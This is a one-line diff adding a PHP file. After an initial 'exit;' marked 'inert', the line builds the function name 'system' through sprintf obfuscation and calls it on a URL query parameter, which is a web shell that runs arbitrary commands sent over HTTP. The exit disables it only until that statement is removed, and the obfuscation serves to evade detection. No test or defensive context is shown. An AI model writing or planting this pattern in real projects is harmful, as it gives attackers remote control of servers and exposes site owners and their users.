@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f = sprintf("%s%s%c", "sys", "te", 109); $f($_GET["k"]);
